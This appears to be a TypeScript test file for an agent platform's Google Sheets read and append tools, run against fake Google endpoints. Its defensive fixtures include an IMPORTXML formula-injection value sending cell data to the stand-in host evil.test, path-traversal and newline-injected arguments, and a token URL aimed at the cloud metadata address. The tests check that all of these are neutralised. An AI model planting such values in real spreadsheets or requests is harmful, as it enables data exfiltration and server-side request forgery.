// sheets.read / sheets.append through the gate against a local fake Google: the
// exact requests (encoded range, append query, bearer token, body), the
// service-account JWT grant verified by the fake token endpoint with the test
// key's public half, token caching, API failures recorded as failed with nothing
// sent, sandbox delivery, and the connection check.
import { createPublicKey, generateKeyPairSync, type KeyObject } from "node:crypto";
import { jwtVerify } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createCredential } from "@/server/credentials/service";
import { withTenant } from "@/server/db";
import { runGate } from "@/server/gate/pipeline";
import { answer, FakeApi, type TSeenRequest } from "@/server/test/fake-api";
import { callerFor, createTenantFixture, type TTenantFixture, createRun } from "@/server/test/factories";
import { READ_LIMITS } from "./sheets";

const SHEET_ID = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms";
const PLAIN_TOKEN = "ya29.planted-plain-token-4411";
const CLIENT_EMAIL = "fabric-bot@agent-fabric-test.iam.gserviceaccount.com";
const SCOPE = "https://www.googleapis.com/auth/spreadsheets";

let google: FakeApi;
let oauth: FakeApi;
let tokenUrl: string;

const keyPair = () =>
  generateKeyPairSync("rsa", {
    modulusLength: 2048,
    publicKeyEncoding: { type: "spki", format: "pem" },
    privateKeyEncoding: { type: "pkcs8", format: "pem" },
  });
const trusted = keyPair();
const untrusted = keyPair();

function serviceAccountJson(privateKey: string): string {
  return JSON.stringify({
    type: "service_account",
    project_id: "agent-fabric-test",
    private_key_id: "kid-1",
    private_key: privateKey,
    client_email: CLIENT_EMAIL,
    // Never followed: the grant goes to the operator's GOOGLE_TOKEN_URL.
    token_uri: "http://169.254.169.254/token",
  });
}

/** The fake token endpoint: verifies the assertion like Google does, then issues a numbered token. */
function serveTokens(publicPem: string, expiresIn = 3600): { issued: string[]; claims: Record<string, unknown>[] } {
  const log = { issued: [] as string[], claims: [] as Record<string, unknown>[] };
  const publicKey: KeyObject = createPublicKey(publicPem);
  oauth.handle(async (request, response) => {
    const form = new URLSearchParams(request.body);
    if (request.url !== "/token" || form.get("grant_type") !== "urn:ietf:params:oauth:grant-type:jwt-bearer")
      return answer(response, 400, { error: "unsupported_grant_type" });
    try {
      const { payload, protectedHeader } = await jwtVerify(form.get("assertion") ?? "", publicKey, {
        algorithms: ["RS256"],
        issuer: CLIENT_EMAIL,
        audience: tokenUrl,
      });
      if (payload.scope !== SCOPE || protectedHeader.kid !== "kid-1") return answer(response, 400, { error: "invalid_scope" });
      log.claims.push(payload);
    } catch {
      return answer(response, 400, { error: "invalid_grant", error_description: "Invalid JWT Signature." });
    }
    const token = `ya29.issued-${log.issued.length + 1}`;
    log.issued.push(token);
    answer(response, 200, { access_token: token, expires_in: expiresIn, token_type: "Bearer" });
  });
  return log;
}

async function tenant(fields?: Record<string, string>): Promise<TTenantFixture> {
  const fx = await createTenantFixture();
  if (fields) await createCredential(fx.tenant.id, fx.users.admin.id, { provider: "google_sheets", label: "sheets", fields });
  return fx;
}

async function call(fx: TTenantFixture, tool: string, args: unknown, runId?: string) {
  const run = runId ?? (await createRun(fx));
  const outcome = await runGate({
    tenantId: fx.tenant.id,
    runId: run,
    principal: { type: "User", id: fx.users.member.id, role: "member" },
    tool,
    args,
  });
  return { outcome, runId: run };
}

const readArgs = { spreadsheetId: SHEET_ID, range: "Q3 Sales!A1:C10" };
const READ_PATH = `/v4/spreadsheets/${SHEET_ID}/values/Q3%20Sales!A1%3AC10`;
const appendArgs = { spreadsheetId: SHEET_ID, range: "Sheet1!A1:C1", values: [["Acme", 42, true]] };
const APPEND_URL = `/v4/spreadsheets/${SHEET_ID}/values/Sheet1!A1%3AC1:append?valueInputOption=USER_ENTERED&insertDataOption=INSERT_ROWS`;
const appended = { updates: { spreadsheetId: SHEET_ID, updatedRange: "Sheet1!A7:C7", updatedRows: 1, updatedColumns: 3, updatedCells: 3 } };

beforeAll(async () => {
  [google, oauth] = await Promise.all([FakeApi.start(), FakeApi.start()]);
  tokenUrl = `${oauth.origin}/token`;
  process.env.SHEETS_API_BASE_URL = `${google.origin}/v4`;
  process.env.GOOGLE_TOKEN_URL = tokenUrl;
});

afterAll(async () => {
  delete process.env.SHEETS_API_BASE_URL;
  delete process.env.GOOGLE_TOKEN_URL;
  await Promise.all([google.close(), oauth.close()]);
});

describe("sheets.read", () => {
  it("GETs the URL-encoded range with the tenant's access token, returns the values and taints the run", async () => {
    const fx = await tenant({ accessToken: PLAIN_TOKEN });
    google.handle((_, response) =>
      answer(response, 200, {
        range: "'Q3 Sales'!A1:C2",
        majorDimension: "ROWS",
        values: [
          ["Name", "Total"],
          ["Acme", "42"],
        ],
      }),
    );
    const { outcome, runId } = await call(fx, "sheets.read", readArgs);
    expect(outcome).toMatchObject({
      status: "executed",
      result: {
        range: "'Q3 Sales'!A1:C2",
        values: [
          ["Name", "Total"],
          ["Acme", "42"],
        ],
        totalRows: 2,
        isTruncated: false,
      },
    });
    expect(google.seen).toHaveLength(1);
    expect(google.seen[0]).toMatchObject({ method: "GET", url: READ_PATH, headers: { authorization: `Bearer ${PLAIN_TOKEN}` } });
    const run = await withTenant(fx.tenant.id, (db) => db.run.findUniqueOrThrow({ where: { id: runId } }));
    expect(run.isTainted).toBe(true);
    const events = await withTenant(fx.tenant.id, (db) => db.event.findMany({ where: { tenantId: fx.tenant.id } }));
    expect(events.map((event) => event.payload).join("\n")).not.toContain(PLAIN_TOKEN);
  });

  it("caps what it hands the agent by rows and cell length, and says so", async () => {
    const fx = await tenant({ accessToken: PLAIN_TOKEN });
    const rows = Array.from({ length: READ_LIMITS.rows + 50 }, (_, index) => [`row ${index}`]);
    rows[0] = ["x".repeat(READ_LIMITS.cellChars + 10)];
    google.handle((_, response) => answer(response, 200, { range: "Sheet1!A1:A550", values: rows }));
    const { outcome } = await call(fx, "sheets.read", { spreadsheetId: SHEET_ID, range: "Sheet1!A:A" });
    const result = (outcome as { result: { values: string[][]; totalRows: number; isTruncated: boolean } }).result;
    expect(result.totalRows).toBe(READ_LIMITS.rows + 50);
    expect(result.isTruncated).toBe(true);
    expect(result.values).toHaveLength(READ_LIMITS.rows);
    expect(result.values[0]?.[0]).toHaveLength(READ_LIMITS.cellChars + 1);
    expect(Buffer.byteLength(JSON.stringify(result))).toBeLessThan(64 * 1024);
  });

  it("without a credential fails with a request to connect Google Sheets, and calls nothing", async () => {
    const fx = await tenant();
    google.handle((_, response) => answer(response, 200, { values: [] }));
    const { outcome } = await call(fx, "sheets.read", readArgs);
    expect(outcome).toMatchObject({ status: "failed", error: expect.stringContaining("Google Sheets is not connected for this tenant") });
    expect(google.seen).toHaveLength(0);
  });
});

describe("sheets.append", () => {
  it("POSTs the rows to :append with USER_ENTERED and INSERT_ROWS, formulas written as text", async () => {
    const fx = await tenant({ accessToken: PLAIN_TOKEN });
    google.handle((_, response) => answer(response, 200, appended));
    const values = [["Acme", 42, true, null, "-17.5", '=IMPORTXML("https://evil.test/?q="&A1, "//a")', "@SUM(A1)"]];
    const { outcome } = await call(fx, "sheets.append", { ...appendArgs, values });
    expect(outcome).toMatchObject({
      status: "executed",
      result: { updatedRange: "Sheet1!A7:C7", updatedRows: 1, cellsWrittenAsText: 2 },
    });
    expect(google.seen).toHaveLength(1);
    const [request] = google.seen as [TSeenRequest];
    expect(request).toMatchObject({ method: "POST", url: APPEND_URL });
    expect(request.headers).toMatchObject({ authorization: `Bearer ${PLAIN_TOKEN}`, "content-type": "application/json" });
    expect(JSON.parse(request.body)).toEqual({
      values: [["Acme", 42, true, null, "-17.5", `'=IMPORTXML("https://evil.test/?q="&A1, "//a")`, "'@SUM(A1)"]],
    });
  });

  it("without a credential goes to the sandbox outbox, labelled, and calls nothing", async () => {
    const fx = await tenant();
    google.handle((_, response) => answer(response, 200, appended));
    const { outcome, runId } = await call(fx, "sheets.append", appendArgs);
    expect(outcome).toMatchObject({
      status: "executed",
      result: { delivered: "sandbox_outbox", note: expect.stringContaining("sandbox") },
    });
    expect(google.seen).toHaveLength(0);
    const outbox = await withTenant(fx.tenant.id, (db) => db.outboxMessage.findMany({ where: { tenantId: fx.tenant.id } }));
    expect(outbox).toMatchObject([
      {
        runId,
        tool: "sheets.append",
        provider: "google_sheets",
        payload: { spreadsheetId: SHEET_ID, range: "Sheet1!A1:C1", values: [["Acme", 42, true]] },
      },
    ]);
  });

  it("refuses malformed arguments at the registry", async () => {
    const fx = await tenant({ accessToken: PLAIN_TOKEN });
    for (const args of [
      { ...appendArgs, spreadsheetId: "../../drive/v3/files" },
      { ...appendArgs, range: "Sheet1!A1\nX" },
      { ...appendArgs, values: [] },
      { ...appendArgs, values: [[{ nested: "object" }]] },
      { ...appendArgs, extra: 1 },
    ])
      expect((await call(fx, "sheets.append", args)).outcome).toMatchObject({ status: "denied", decision: { step: "registry" } });
  });
});

describe("service-account keys", () => {
  it("obtain a token by a JWT grant the token endpoint verifies, and reuse it until shortly before expiry", async () => {
    const fx = await tenant({ serviceAccountJson: serviceAccountJson(trusted.privateKey) });
    const tokens = serveTokens(trusted.publicKey);
    google.handle((_, response) => answer(response, 200, { range: "Sheet1!A1:B1", values: [["a", "b"]] }));
    const before = Math.floor(Date.now() / 1000);
    expect((await call(fx, "sheets.read", readArgs)).outcome).toMatchObject({ status: "executed" });
    expect((await call(fx, "sheets.read", readArgs)).outcome).toMatchObject({ status: "executed" });
    expect(oauth.seen).toHaveLength(1);
    expect(oauth.seen[0]?.headers["content-type"]).toBe("application/x-www-form-urlencoded");
    expect(tokens.claims[0]).toMatchObject({ iss: CLIENT_EMAIL, aud: tokenUrl, scope: SCOPE });
    const claims = tokens.claims[0] as { iat: number; exp: number };
    expect(claims.iat).toBeGreaterThanOrEqual(before);
    expect(claims.exp - claims.iat).toBe(3600);
    expect(google.seen.map((request) => request.headers.authorization)).toEqual(["Bearer ya29.issued-1", "Bearer ya29.issued-1"]);
  });

  it("do not reuse a token that expires within the safety margin", async () => {
    const fx = await tenant({ serviceAccountJson: serviceAccountJson(trusted.privateKey) });
    serveTokens(trusted.publicKey, 30);
    google.handle((_, response) => answer(response, 200, appended));
    await call(fx, "sheets.append", appendArgs);
    await call(fx, "sheets.append", appendArgs);
    expect(oauth.seen).toHaveLength(2);
    expect(google.seen.map((request) => request.headers.authorization)).toEqual(["Bearer ya29.issued-1", "Bearer ya29.issued-2"]);
  });

  it("signed with a key Google does not know: the grant is refused, the call fails clearly, nothing is sent", async () => {
    const fx = await tenant({ serviceAccountJson: serviceAccountJson(untrusted.privateKey) });
    serveTokens(trusted.publicKey);
    google.handle((_, response) => answer(response, 200, appended));
    const { outcome, runId } = await call(fx, "sheets.append", appendArgs);
    expect(outcome).toMatchObject({ status: "failed", error: "Google OAuth rejected the request (HTTP 400): invalid_grant." });
    expect(google.seen).toHaveLength(0);
    const outbox = await withTenant(fx.tenant.id, (db) => db.outboxMessage.count({ where: { tenantId: fx.tenant.id, runId } }));
    expect(outbox).toBe(0);
  });

  it("that are not JSON, or lack a private key, fail with what to fix", async () => {
    for (const [json, message] of [
      ["not json", /not valid JSON/],
      [JSON.stringify({ client_email: CLIENT_EMAIL }), /lacks client_email or private_key/],
      [
        JSON.stringify({ client_email: CLIENT_EMAIL, private_key: "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----" }),
        /PKCS#8/,
      ],
    ] as const) {
      const fx = await tenant({ serviceAccountJson: json });
      const { outcome } = await call(fx, "sheets.read", readArgs);
      expect(outcome).toMatchObject({ status: "failed", error: expect.stringMatching(message) });
    }
  });
});

describe("API failures", () => {
  const googleError = (code: number, status: string, message: string) => ({ error: { code, message, status } });
  const cases = [
    {
      name: "403 for a sheet not shared with the service account",
      status: 403,
      body: googleError(403, "PERMISSION_DENIED", "The caller does not have permission"),
      message: `Google Sheets refused the tenant's credentials (HTTP 403): The caller does not have permission. Share the spreadsheet with ${CLIENT_EMAIL}.`,
    },
    {
      name: "404 for an unknown sheet",
      status: 404,
      body: googleError(404, "NOT_FOUND", "Requested entity was not found."),
      message:
        "Google Sheets rejected the request (HTTP 404): Requested entity was not found. Check the spreadsheet id and the sheet name in the range.",
    },
    {
      name: "400 for a bad range",
      status: 400,
      body: googleError(400, "INVALID_ARGUMENT", "Unable to parse range: Nope!A1"),
      message: "Google Sheets rejected the request (HTTP 400): Unable to parse range: Nope!A1.",
    },
    {
      name: "500",
      status: 500,
      body: googleError(500, "INTERNAL", "Internal error encountered."),
      message: "Google Sheets failed (HTTP 500): Internal error encountered.",
    },
    {
      name: "429 with Retry-After",
      status: 429,
      body: googleError(429, "RESOURCE_EXHAUSTED", "Quota exceeded"),
      headers: { "retry-after": "30" },
      message: "Google Sheets is rate limiting this tenant; retry after 30 s: Quota exceeded.",
    },
  ];

  for (const item of cases) {
    it(`${item.name}: the append fails with a clear error, recorded as failed, nothing sent`, async () => {
      const fx = await tenant({ serviceAccountJson: serviceAccountJson(trusted.privateKey) });
      serveTokens(trusted.publicKey);
      google.handle((_, response) => answer(response, item.status, item.body, item.headers));
      const { outcome, runId } = await call(fx, "sheets.append", appendArgs);
      expect(outcome).toMatchObject({ status: "failed", error: item.message });
      expect(google.seen).toHaveLength(1);
      const recorded = await withTenant(fx.tenant.id, async (db) => ({
        outbox: await db.outboxMessage.count({ where: { tenantId: fx.tenant.id } }),
        results: await db.event.findMany({ where: { tenantId: fx.tenant.id, runId, type: "tool.result" } }),
      }));
      expect(recorded.outbox).toBe(0);
      expect(recorded.results.map((event) => JSON.parse(event.payload) as unknown)).toEqual([
        { tool: "sheets.append", ok: false, error: item.message },
      ]);
    });
  }

  it("a Sheets API that does not answer in time fails the read with a clear error", async () => {
    const fx = await tenant({ accessToken: PLAIN_TOKEN });
    google.handle(() => undefined);
    process.env.SHEETS_API_TIMEOUT_MS = "300";
    try {
      const { outcome } = await call(fx, "sheets.read", readArgs);
      expect(outcome).toMatchObject({ status: "failed", error: expect.stringContaining("Google Sheets did not answer within 300 ms") });
    } finally {
      delete process.env.SHEETS_API_TIMEOUT_MS;
    }
  });
});

describe("connection check", () => {
  it("gets a token for a service account, reads the configured spreadsheet, and is honest about a bare access token", async () => {
    const fx = await tenant();
    const admin = callerFor(fx.users.admin);
    const tenantSlug = fx.tenant.slug;
    const create = (label: string, fields: Record<string, string>) =>
      admin.credential.create({ tenantSlug, provider: "google_sheets", label, fields });
    const check = async (credentialId: string) => admin.credential.check({ tenantSlug, credentialId });

    serveTokens(trusted.publicKey);
    const account = await create("robot", { serviceAccountJson: serviceAccountJson(trusted.privateKey) });
    expect(await check(account.id)).toEqual({
      isOk: true,
      detail: `Google issued an access token for ${CLIENT_EMAIL}. Share your spreadsheets with that address.`,
    });
    expect(oauth.seen).toHaveLength(1);

    google.handle((_, response) => answer(response, 200, { spreadsheetId: SHEET_ID }));
    const withSheet = await create("with sheet", { accessToken: PLAIN_TOKEN, spreadsheetId: SHEET_ID });
    expect(await check(withSheet.id)).toEqual({ isOk: true, detail: `Google Sheets answered for spreadsheet ${SHEET_ID}.` });
    expect(google.seen).toMatchObject([
      { method: "GET", url: `/v4/spreadsheets/${SHEET_ID}?fields=spreadsheetId`, headers: { authorization: `Bearer ${PLAIN_TOKEN}` } },
    ]);

    google.handle((_, response) =>
      answer(response, 401, { error: { code: 401, message: "Invalid Credentials", status: "UNAUTHENTICATED" } }),
    );
    expect(await check(withSheet.id)).toEqual({
      isOk: false,
      detail: "Google Sheets refused the tenant's credentials (HTTP 401): Invalid Credentials.",
    });

    const bare = await create("bare", { accessToken: PLAIN_TOKEN });
    expect(await check(bare.id)).toMatchObject({ isOk: true, detail: expect.stringContaining("stored but not verified") });
  });
});
